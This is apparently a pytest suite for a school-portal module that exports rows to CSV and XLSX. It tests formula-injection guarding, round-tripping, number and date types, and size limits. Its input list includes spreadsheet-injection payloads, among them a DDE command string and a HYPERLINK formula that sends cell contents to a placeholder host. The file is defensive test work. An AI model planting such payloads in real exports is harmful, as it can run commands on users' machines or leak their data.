"""CSV and XLSX made in memory: read back, they are what went in, and nothing in them runs."""

from __future__ import annotations

import csv
import io
import zipfile
from datetime import UTC, date, datetime, time
from decimal import Decimal
from time import sleep

import openpyxl
import pytest
from hypothesis import example, given
from hypothesis import strategies as st
from openpyxl.cell.cell import Cell as SheetCell

from s2s_portal.exports import Cell
from s2s_portal.exports.csv import guard_cell, rows_to_csv
from s2s_portal.exports.xlsx import LONGEST_TEXT, rows_to_xlsx

FORMULAS = [
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(A1)",
    "\t=1+1",
    "\r=1+1",
    "\x00=1+1",
    "\tx",
    "\rx",
    "＝1+1",
    "＋1",
    "－1",
    "＠x",
    "  =1+1",
    "\n=1+1",
    "\u00a0=1+1",
    "\ufeff=1+1",
    "'=1+1",
    '"=1+1',
    "\" '=1+1",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://x.example/?"&A1,"see")',
    "{=1+1}"[1:],
    "-100.00",
    "+44 1603 000000",
    "-",
]
PLAIN = [
    "",
    "Larkfield Primary School",
    "1=1",
    "a-b",
    "two words = one",
    "'quoted'",
    "http://x.example/",
    "mailto:a@x.example",
    "{=1+1}",
    "Siân Ŵyn, Łucja, عائشہ",
    'say "so"',
    "one\r\ntwo",
    "comma, semicolon; tab\there",
    "#REF!",
    "TRUE",
    "_x0041_",
    "007",
]


def read_csv(file: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(file.decode("utf-8"), newline=""), strict=True))


def read_xlsx(file: bytes) -> list[tuple[SheetCell, ...]]:
    return list(openpyxl.load_workbook(io.BytesIO(file)).worksheets[0].iter_rows())


def parts(file: bytes) -> dict[str, bytes]:
    with zipfile.ZipFile(io.BytesIO(file)) as book:
        return {name: book.read(name) for name in book.namelist()}


@pytest.mark.parametrize("text", FORMULAS)
def test_text_that_begins_like_a_formula_is_guarded(text: str) -> None:
    assert guard_cell(text) == f"'{text}"


@pytest.mark.parametrize("text", PLAIN)
def test_other_text_is_left_alone(text: str) -> None:
    assert guard_cell(text) == text


@pytest.mark.parametrize("value", [-100, Decimal("-100.00"), 0, True, None, date(2019, 4, 1)])
def test_what_is_not_text_is_left_alone(value: Cell) -> None:
    assert guard_cell(value) is value


def test_csv_reads_back_as_it_went_in() -> None:
    rows = [[text, "x"] for text in PLAIN]
    assert read_csv(rows_to_csv(["Name", "Note"], rows)) == [["Name", "Note"], *rows]


def test_csv_guards_text_in_rows_and_header() -> None:
    file = rows_to_csv(["=name"], [[text] for text in FORMULAS])
    assert read_csv(file) == [["'=name"], *([f"'{text}"] for text in FORMULAS)]


def test_csv_is_rfc_4180() -> None:
    assert rows_to_csv(["a", "b"], [['x"y', "1,2"], ["", None]]) == (
        b'a,b\r\n"x""y","1,2"\r\n,\r\n'
    )


def test_csv_keeps_negative_numbers_and_writes_norfolk_time() -> None:
    row: list[Cell] = [
        *(-10000, Decimal("-100.00"), date(2019, 4, 1)),
        *(datetime(2019, 5, 14, 11, 0, tzinfo=UTC), time(9, 30)),
    ]
    assert rows_to_csv(list("abcde"), [row]).splitlines()[1] == (
        b"-10000,-100.00,2019-04-01,2019-05-14T12:00:00+01:00,09:30:00"
    )


@given(st.lists(st.tuples(st.text(max_size=20), st.integers(), st.text(max_size=5)), max_size=5))
@example([("\x00", -1, "\x1a")])
def test_any_text_comes_back_from_csv(rows: list[tuple[str, int, str]]) -> None:
    again = read_csv(rows_to_csv(["a", "b", "c"], rows))[1:]
    assert again == [[guard_cell(a), str(number), guard_cell(b)] for a, number, b in rows]
    assert all(int(row[1]) == number for row, (_, number, _) in zip(again, rows, strict=True))


def test_xlsx_holds_no_formula_and_no_link() -> None:
    texts = [*FORMULAS, *PLAIN[1:]]
    file = rows_to_xlsx("Pull 1", ["=name", "Note"], [[text, text] for text in texts])
    cells = [cell for row in read_xlsx(file) for cell in row]
    assert {cell.data_type for cell in cells} == {"s"}
    assert not any(cell.hyperlink for cell in cells)
    assert b"<f>" not in b"".join(parts(file).values())


def test_openpyxl_would_notice_a_formula() -> None:
    book, out = openpyxl.Workbook(), io.BytesIO()
    book.worksheets[0].append(["=1+1"])
    book.save(out)
    assert read_xlsx(out.getvalue())[0][0].data_type == "f"


def test_xlsx_text_reads_back_as_it_went_in() -> None:
    # openpyxl leaves the format's own escapes (`_x0000_`) to its reader, so those are set apart.
    texts = [text for text in [*FORMULAS, *PLAIN[1:]] if not {"\x00", "\r"} & set(text)]
    texts.remove("_x0041_")
    rows = read_xlsx(rows_to_xlsx("Names", ["Name"], [[text] for text in texts]))
    assert [row[0].value for row in rows] == ["Name", *texts]


def test_xlsx_money_and_dates_are_numbers_and_dates() -> None:
    instant = datetime(2019, 5, 14, 11, 0, tzinfo=UTC)
    header = ["Amount", "Pence", "Day", "At", "Paid", "Time", "Long number"]
    rows: list[list[Cell]] = [
        [None, None, None, None, None, None, None],
        [Decimal("-100.00"), -10000, date(2019, 4, 1), instant, True, time(9, 5), 10**20 + 1],
    ]
    _, _, cells = read_xlsx(rows_to_xlsx("Pull 1", header, rows))
    assert [(cell.value, cell.data_type) for cell in cells] == [
        (-100, "n"),
        (-10000, "n"),
        (datetime(2019, 4, 1), "d"),  # noqa: DTZ001
        (datetime(2019, 5, 14, 12, 0), "d"),  # noqa: DTZ001
        (True, "b"),
        ("09:05", "s"),
        ("100000000000000000001", "s"),
    ]
    assert [cell.number_format for cell in cells[:4]] == [
        *("#,##0.00", "General", "dd/mm/yyyy", "dd/mm/yyyy hh:mm"),
    ]


def test_xlsx_header_stands_out_and_stays_in_sight() -> None:
    file = rows_to_xlsx("Pull 1", ["Amount"], [[Decimal("100.00")]])
    sheet = openpyxl.load_workbook(io.BytesIO(file)).worksheets[0]
    assert (sheet.title, sheet.freeze_panes, sheet["A1"].font.b) == ("Pull 1", "A2", True)


def test_xlsx_without_rows_has_its_header() -> None:
    rows = read_xlsx(rows_to_xlsx("Pull 1", ["Amount", "School"], []))
    assert [[cell.value for cell in row] for row in rows] == [["Amount", "School"]]


def test_xlsx_of_the_same_rows_is_the_same_bytes() -> None:
    rows: list[list[Cell]] = [["Larkfield", Decimal("100.00"), date(2019, 4, 1)]] * 50
    first = rows_to_xlsx("Pull 1", ["a", "b", "c"], rows)
    # The library stamps a workbook with the second in which it was written.
    sleep(1.1)
    assert rows_to_xlsx("Pull 1", ["a", "b", "c"], rows) == first
    assert rows_to_xlsx("Pull 1", ["a", "b", "c"], rows[1:]) != first
    assert parts(first)["docProps/core.xml"].count(b">1980-01-01T00:00:00Z<") == 2


@pytest.mark.parametrize("length", [0, 1, 3])
@pytest.mark.parametrize("write", [rows_to_csv, lambda *file: rows_to_xlsx("S", *file)])
def test_a_row_of_another_length_is_refused(write: object, length: int) -> None:
    with pytest.raises(ValueError, match=r"Row 1|zip\(\)"):
        write(["a", "b"], [["x"] * length])  # type: ignore[operator]


@pytest.mark.parametrize("write", [rows_to_csv, lambda *file: rows_to_xlsx("S", *file)])
def test_an_instant_without_a_zone_is_refused(write: object) -> None:
    with pytest.raises(ValueError, match="time zone"):
        write(["At"], [[datetime(2019, 5, 14, 12, 0)]])  # type: ignore[operator]  # noqa: DTZ001


@pytest.mark.parametrize(
    ("sheet", "header", "rows"),
    [
        ("Pull 1", ["a", "a"], [["x", "y"]]),
        ("Pull 1", ["a"], [["x" * (LONGEST_TEXT + 1)]]),
        ("Pull [1]", ["a"], [["x"]]),
        ("x" * 32, ["a"], [["x"]]),
    ],
    ids=["same name twice", "long text", "sheet name", "long sheet name"],
)
def test_what_excel_cannot_hold_is_refused(
    sheet: str, header: list[str], rows: list[list[Cell]]
) -> None:
    with pytest.raises(ValueError, match=r"."):
        rows_to_xlsx(sheet, header, rows)


def test_more_rows_than_a_sheet_holds_are_refused(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr("s2s_portal.exports.xlsx.MOST_ROWS", 2)
    assert len(read_xlsx(rows_to_xlsx("Pull 1", ["a"], [["x"], ["y"]]))) == 3
    with pytest.raises(ValueError, match="holds 2 rows"):
        rows_to_xlsx("Pull 1", ["a"], [["x"], ["y"], ["z"]])


def test_a_hundred_thousand_rows() -> None:
    rows: list[tuple[Cell, ...]] = [
        (f"S2S-26-{number:06d}", Decimal(-number), "=1+1") for number in range(100_000)
    ]
    sheet = parts(rows_to_xlsx("Pull 1", ["Reference", "Amount", "Note"], rows))[
        "xl/worksheets/sheet1.xml"
    ]
    assert (sheet.count(b"<row "), sheet.count(b"<v>-"), sheet.count(b"<f>")) == (
        100_001,
        99_999,
        0,
    )
    assert b"S2S-26-099999" in sheet
    assert rows_to_csv(["Reference", "Amount", "Note"], rows).count(b"\r\n") == 100_001
